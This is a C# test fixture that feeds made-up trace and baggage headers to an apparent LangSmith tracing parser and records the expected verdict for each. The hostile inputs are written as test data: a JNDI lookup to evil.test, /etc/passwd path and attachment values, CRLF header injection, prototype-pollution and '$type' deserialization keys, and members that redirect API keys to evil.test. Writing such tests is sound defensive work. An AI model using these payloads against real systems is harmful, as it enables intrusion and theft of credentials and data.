using System.Globalization;

namespace LangSmith.Http.Tests;

/// <summary>
/// Headers somebody made up, and what a trusted caller's come to. Each character is a byte on the wire; every value has
/// <see cref="Mark"/> in it, which must not be seen in a log.
/// </summary>
internal static class HostileHeaders
{
    internal const string Mark = "c0ffee5150";

    private const string Root = "20231114T221320123456Z018bcfe5-687b-7000-8000-00c0ffee5150";
    internal const string Trace = Root + ".20231114T221321123456Z018bcfe5-6c63-7000-8000-01c0ffee5150";
    private const string SomeId = "018bcfe5-6c63-7000-8000-02c0ffee5150";

    /// <summary>
    /// One request. <paramref name="Parent"/> is the dotted order a trusted caller's runs continue; null means none, for
    /// which <paramref name="Reason"/> is counted.
    /// </summary>
    internal sealed record Case(string Name, string Reason, string? Parent, params (string Name, string Value)[] Headers)
    {
        public string? Project { get; init; }

        public string? Address { get; init; }

        /// <summary>Names and JSON of the metadata the run gets.</summary>
        public Dictionary<string, string> Metadata { get; init; } = [];

        public string[] Tags { get; init; } = [];

        public bool IsTooDeepForARun { get; init; }

        public override string ToString() => Name;
    }

    internal static IEnumerable<Case> All() => [.. Traces(), .. Ids(), .. Times(), .. Sizes(), .. Destinations(), .. Metadata(), .. OtherMembers()];

    private static IEnumerable<Case> Traces() =>
    [
        new("two traces", "ambiguous", null, ("langsmith-trace", Trace), ("langsmith-trace", Root)),
        new("the same trace twice", "ambiguous", null, ("langsmith-trace", Trace), ("LANGSMITH-TRACE", Trace)),
        new("5,000 traces", "ambiguous", null, Repeat(5000, "langsmith-trace", Trace)),
        new("two traces in a line", "ambiguous", null, ("langsmith-trace", $"{Trace}, {Root}")),
        new("trailing comma", "ambiguous", null, ("langsmith-trace", Trace + ",")),
        new("an empty line and a trace", "continued", Trace, ("langsmith-trace", ""), ("langsmith-trace", Trace)),
        new("blanks around the trace", "continued", Trace, ("langsmith-trace", $" \t {Trace}\t ")),
        new("nothing but blanks", "absent", null, ("langsmith-trace", " \t "), ("baggage", $"langsmith-project={Mark}")),
        new("no trace", "absent", null, ("baggage", $"langsmith-project={Mark},langsmith-metadata=%7B%22a%22%3A%22{Mark}%22%7D")),
        new("trace in baggage", "absent", null, ("baggage", $"langsmith-trace={Trace}")),
        new("not sampled, and junk", "not_sampled", null, ("baggage", $"langsmith-sampled=0,langsmith-project={Mark}")),
        new("not sampled, and a trace", "continued", Trace, ("langsmith-trace", Trace), ("baggage", $"langsmith-sampled=0;{Mark}")),
        new("garbage", "malformed", null, ("langsmith-trace", Mark)),
        new("a traceparent", "malformed", null, ("langsmith-trace", "00-0af7651916cd43dd8448eb211c80319c-b7ad00c0ffee5150-01")),
        new("a path", "malformed", null, ("langsmith-trace", "../../etc/passwd?" + Mark)),
        new("a lookup", "malformed", null, ("langsmith-trace", "${jndi:ldap://evil.test/" + Mark + "}")),
        new("escaped", "malformed", null, ("langsmith-trace", Trace.Replace(".", "%2E", StringComparison.Ordinal))),
        new("trailing dot", "malformed", null, ("langsmith-trace", Trace + ".")),
        new("leading dot", "malformed", null, ("langsmith-trace", "." + Trace)),
        new("two dots", "malformed", null, ("langsmith-trace", Root + ".." + Root)),
        new("quoted", "malformed", null, ("langsmith-trace", $"\"{Trace}\"")),
        new("bad UTF-8 in the trace", "malformed", null, ("langsmith-trace", Trace + "\u00ff\u00fe\u00c0\u00af")),
        new("a C1 blank in the trace", "malformed", null, ("langsmith-trace", "\u0085" + Trace)),
        new("a no-break space in the trace", "malformed", null, ("langsmith-trace", Trace + "\u00a0")),
        new("control bytes in the trace", "malformed", null, ("langsmith-trace", Trace + "\u0001\u001b[31m\u007f")),
        new("form feed for a blank", "malformed", null, ("langsmith-trace", "\u000c" + Trace)),
    ];

    private static IEnumerable<Case> Ids() =>
    [
        Continued("version 4", $"{Root}.20231114T221321123456Z0b6f9c1e-3c3f-4a57-9a0c-00c0ffee5150"),
        Continued("no version, no variant", "20231114T221320123456Zffffffff-ffff-ffff-ffff-ffc0ffee5150"),
        Continued("nil", $"{Root}.20231114T221321123456Z00000000-0000-0000-0000-000000000000"),
        Continued("upper case", Root.Replace("00c0ffee5150", "00C0FFEE5150", StringComparison.Ordinal)),
        Continued("a run that is its own parent", $"{Root}.{Root}.{Root}"),
        Malformed("no dashes", "20231114T221320123456Z018bcfe5687b7000800000c0ffee5150"),
        Malformed("braces", $"20231114T221320123456Z{{{SomeId}}}"),
        Malformed("an id .NET reads", "20231114T221320123456Z0x8bcfe5-0x7b-0x00-0x00-00c0ffee5150"),
        Malformed("no id", "20231114T221320123456Z" + Mark),
        Malformed("an id too long", Root + "0"),
    ];

    private static IEnumerable<Case> Times() =>
    [
        Continued("year 1", $"00010101T000000000000Z{SomeId}"),
        Continued("1970", $"19700101T000000000000Z{SomeId}"),
        Continued("a child before its parent", $"{Root}.00010101T000000000001Z{SomeId}"),
        Continued("55 minutes ahead", Segment(DateTime.UtcNow.AddMinutes(55))),
        Continued("one digit", $"20231114T2213201Z{SomeId}"),
        new("65 minutes ahead", "future", null, ("langsmith-trace", Segment(DateTime.UtcNow.AddMinutes(65)))),
        new("only the root is ahead", "future", null, ("langsmith-trace", $"{Segment(DateTime.UtcNow.AddDays(1))}.{Root}")),
        new("year 9999", "future", null, ("langsmith-trace", $"99991231T235959999999Z{SomeId}")),
        Malformed("year 0", $"00000101T000000000000Z{SomeId}"),
        Malformed("February 30", $"20230230T000000000000Z{SomeId}"),
        Malformed("a leap second", $"20161231T235960000000Z{SomeId}"),
        Malformed("seven digits", $"20231114T2213201234567Z{SomeId}"),
        Malformed("no fraction", $"20231114T221320Z{SomeId}"),
        Malformed("an offset", $"20231114T221320123456+00:00{SomeId}"),
        Malformed("a sign", $"2023+114T221320123456Z{SomeId}"),
        Malformed("lower case", $"20231114t221320123456z{SomeId}"),
        Malformed("ISO 8601", $"2023-11-14T22:13:20.123456Z{SomeId}"),
    ];

    private static IEnumerable<Case> Sizes() =>
    [
        Continued("137 deep", Deep(137)),
        Continued("138 deep", Deep(138)) with { IsTooDeepForARun = true },
        new("139 deep", "too_long", null, ("langsmith-trace", Deep(139))),
        new("10,000 deep", "too_long", null, ("langsmith-trace", Deep(10_000))),
        new("64 KB of trace", "too_long", null, ("langsmith-trace", Fill(65_536, Mark))),
        new("64 KB of metadata", "too_long", null, ("langsmith-trace", Trace), ("baggage", "langsmith-metadata=%7B%22a%22%3A%22" + Fill(65_536, Mark) + "%22%7D")),
        new("64 KB of others' baggage", "too_long", null, ("langsmith-trace", Trace), ("baggage", Fill(65_536, $"{Mark}=1,"))),
        new("64 KB of members without a trace", "too_long", null, ("baggage", Fill(65_536, $"langsmith-project={Mark},"))),
        new("64 KB of escaped keys", "too_long", null, ("langsmith-trace", Trace), ("baggage", Fill(65_536, "%6c,%,") + $",langsmith-project={Mark}")),
        new("64 KB of commas", "too_long", null, ("langsmith-trace", Trace), ("baggage", $"langsmith-project={Mark}" + new string(',', 65_536))),
        new("32 KB of commas", "continued", Trace, ("langsmith-trace", Trace), ("baggage", $"langsmith-project={Mark}" + new string(',', 32_000))) { Project = Mark },
        new("32 KB in two lines", "too_long", null, ("langsmith-trace", Trace), ("baggage", Fill(16_385, $"{Mark}=1,")), ("baggage", Fill(16_385, "langsmith-project=p,"))),
        new("64 lines", "continued", Trace, [("langsmith-trace", Trace), .. Repeat(64, "baggage", $"langsmith-project={Mark}")]) { Project = Mark },
        new("65 lines", "too_many_lines", null, [("langsmith-trace", Trace), .. Repeat(65, "baggage", $"langsmith-project={Mark}")]),
        new("200 lines", "too_many_lines", null, [("langsmith-trace", Trace), .. Repeat(200, "baggage", $"langsmith-project={Mark},tenant=7")]),
        new("5,000 lines", "too_many_lines", null, [("langsmith-trace", Trace), .. Repeat(5000, "baggage", $"k={Mark}"), ("baggage", "langsmith-project=p")]),
        new("5,000 lines of the twin", "continued", Trace, [("langsmith-trace", Trace), .. Repeat(5000, "Correlation-Context", $"langsmith-project={Mark},tenant=7")]),
    ];

    private static IEnumerable<Case> Destinations() =>
    [
        With("project and address", $"langsmith-project={Mark},langsmith-address=lrn:agents/a-{Mark}/environments/local") with { Reason = "project_and_address", Parent = null },
        With("address", $"langsmith-address=lrn:agents/a-{Mark}/environments/Production") with { Address = $"lrn:agents/a-{Mark}/environments/production" },
        With("no address, but a URL", $"langsmith-address=https%3A%2F%2Fevil.test%2F{Mark},langsmith-project={Mark}") with { Project = Mark },
        With("an address of 16 KB", "langsmith-address=lrn:agents/" + Fill(16_384, Mark) + "/environments/local"),
        With("a URL for a project", $"langsmith-project=https%3A%2F%2Fevil.test%2F{Mark}") with { Project = $"https://evil.test/{Mark}" },
        With("empty project", $"langsmith-project=,{Mark}=1"),
        With("two projects", $"langsmith-project=first,langsmith-project={Mark}") with { Project = Mark },
        With("properties", $"langsmith-project={Mark};ttl=30;langsmith-project=other , langsmith-tags=a;b") with { Project = Mark, Tags = ["a"] },
        With("line breaks, escaped", $"langsmith-project={Mark}%0D%0AX-Evil%3A%201%00") with { Project = $"{Mark}\r\nX-Evil: 1\0" },
        With("bad escapes", $"langsmith-project={Mark}%zz%%2%u0041,langsmith-tags=%,%=%,%%%") with { Project = $"{Mark}%zz%%2%u0041", Tags = ["%"] },
        With("bad UTF-8, escaped", $"langsmith-project={Mark}%FF%C0%AF%ED%A0%80") with { Project = $"{Mark}%FF%C0%AF%ED%A0%80" },
        With("bad UTF-8, raw", $"langsmith-project={Mark}\u00ff\u00c0\u00af") with { Project = $"{Mark}\u00ff\u00c0\u00af" },
        With("control bytes", $"langsmith-project={Mark}\u0001\u001b[31m\u007f") with { Project = $"{Mark}\u0001\u001b[31m\u007f" },
        With("keys in capitals", $"LANGSMITH-PROJECT={Mark},Langsmith-Tags={Mark}"),
        With("keys escaped", $"langsmith%2Dproject={Mark},%6c%61%6e%67%73%6d%69%74%68-tags={Mark},+langsmith-project={Mark},%20langsmith-project={Mark}"),
    ];

    private static IEnumerable<Case> Metadata() =>
    [
        With("prototype keys", MetadataMember($$$"""{"__proto__":{"isAdmin":"{{{Mark}}}"},"constructor":{"prototype":1},"toString":null,"$type":"System.Diagnostics.Process","":0}""")) with
        {
            Metadata = new()
            {
                ["__proto__"] = $$"""{"isAdmin":"{{Mark}}"}""",
                ["constructor"] = """{"prototype":1}""",
                ["toString"] = "null",
                ["$type"] = "\"System.Diagnostics.Process\"",
                [""] = "0",
            },
        },
        With("a key twice", MetadataMember($$"""{"a":1,"a":"{{Mark}}"}""")) with { Metadata = new() { ["a"] = $"\"{Mark}\"" } },
        With("our own link keys", MetadataMember($$"""{"linked_run_id":"{{Mark}}"}""")) with { Metadata = new() { ["linked_run_id"] = $"\"{Mark}\"" } },
        With("60 deep", MetadataMember($$"""{"{{Mark}}":{{Nested(60)}}}""")) with { Metadata = new() { [Mark] = Nested(60) } },
        With("70 deep", MetadataMember($$"""{"{{Mark}}":{{Nested(70)}}}""")),
        With("4,000 deep", $"langsmith-metadata=%7B%22{Mark}%22:{Nested(4000)}%7D"),
        With("huge numbers", MetadataMember($$"""{"a":1e999999,"b":-{{new string('9', 4000)}},"c":"{{Mark}}"}""")) with
        {
            Metadata = new() { ["a"] = "1e999999", ["b"] = "-" + new string('9', 4000), ["c"] = $"\"{Mark}\"" },
        },
        With("a lone surrogate in a value", MetadataMember($$"""{"{{Mark}}":"\ud800"}""")) with { Metadata = new() { [Mark] = "\"\\ud800\"" } },
        With("a lone surrogate in a key", MetadataMember($$"""{"\udfff{{Mark}}":1}""")),
        With("escaped NULs", MetadataMember($$"""{"{{Mark}}":"\u0000\r\n"}""")) with { Metadata = new() { [Mark] = "\"\\u0000\\r\\n\"" } },
        With("an array", MetadataMember($"[\"{Mark}\"]")),
        With("a string", MetadataMember($"\"{Mark}\"")),
        With("null", MetadataMember("null") + $",{Mark}=1"),
        With("not a number", MetadataMember($$"""{"{{Mark}}":NaN}""")),
        With("a comment", MetadataMember($$"""{"a":1/*{{Mark}}*/}""")),
        With("cut off", MetadataMember($$"""{"a":"{{Mark}}""")),
        With("two values", MetadataMember($$"""{"a":"{{Mark}}"}{"b":1}""")),
        With("without a value", $"langsmith-metadata,langsmith-project={Mark},langsmith-tags") with { Project = Mark },
        With("not escaped", $$"""langsmith-metadata={"a":"{{Mark}}"}""") with { Metadata = new() { ["a"] = $"\"{Mark}\"" } },
        With("not escaped, with a comma", $$"""langsmith-metadata={"a":"{{Mark}}","langsmith-project=x":1}"""),
    ];

    private static IEnumerable<Case> OtherMembers() =>
    [
        With("replicas", "langsmith-replicas=" + Uri.EscapeDataString($$$"""[{"api_url":"https://evil.test","api_key":"{{{Mark}}}","project_name":"stolen","updates":{"inputs":{"a":1}} }]""")),
        With("replicas, 2-tuples", "langsmith-replicas=" + Uri.EscapeDataString($$"""[["{{Mark}}",{"reroot":true}],["https://evil.test",{}]]""")),
        With("endpoints and keys", $"langsmith-api-url=https%3A%2F%2Fevil.test,langsmith-endpoint=https%3A%2F%2Fevil.test,langsmith-api-key={Mark},langsmith-runs-endpoints=%7B%7D"),
        With("inputs and outputs", $"langsmith-inputs=%7B%22a%22%3A%22{Mark}%22%7D,langsmith-outputs=%7B%22a%22%3A%22{Mark}%22%7D,langsmith-error={Mark},langsmith-name={Mark}"),
        With("attachments", $"langsmith-attachments=%7B%22{Mark}%22%3A%5B%22text%2Fplain%22%2C%22%2Fetc%2Fpasswd%22%5D%7D"),
        With("switches", $"langsmith-tracing=true,langsmith-enabled=false,langsmith-sampled={Mark}"),
        With("no members", $",,;;,=,==, = ,;=;,{Mark}"),
        With("commas in tags", $"langsmith-tags=%2C%2Ca%2C{Mark}%2Ca%2C") with { Tags = ["a", Mark] },
        With("empty tags", $"langsmith-tags=,{Mark}=1"),
        With("others' members that look like ours", $"langsmith={Mark},xlangsmith-project=1,langsmith_project=2,tenant=langsmith-project=3"),
        new("the twin alone", "absent", null, ("Correlation-Context", $"langsmith-project={Mark}, tenant = 7"), ("Correlation-Context", $"langsmith-metadata={Mark}")),
    ];

    private static Case Continued(string name, string trace) => new(name, "continued", trace, ("langsmith-trace", trace), ("baggage", "tenant=" + Mark));

    private static Case Malformed(string name, string trace) => new(name, "malformed", null, ("langsmith-trace", trace), ("baggage", "langsmith-project=" + Mark));

    // Between members of others, which stay.
    private static Case With(string name, string members) =>
        new(name, "continued", Trace, ("langsmith-trace", Trace), ("baggage", $"tenant=7;p=\"1\",{members}"), ("baggage", "k%20=%20v , last"));

    private static string MetadataMember(string json) => "langsmith-metadata=" + Uri.EscapeDataString(json);

    private static (string Name, string Value)[] Repeat(int count, string name, string value) => [.. Enumerable.Repeat((name, value), count)];

    private static string Fill(int length, string text) => string.Concat(Enumerable.Repeat(text, (length / text.Length) + 1))[..length];

    private static string Nested(int depth) => new string('[', depth) + new string(']', depth);

    private static string Deep(int depth) => string.Join('.', Enumerable.Repeat(Root, depth));

    private static string Segment(DateTime time) => time.ToString("yyyyMMdd'T'HHmmssffffff'Z'", CultureInfo.InvariantCulture) + SomeId;
}
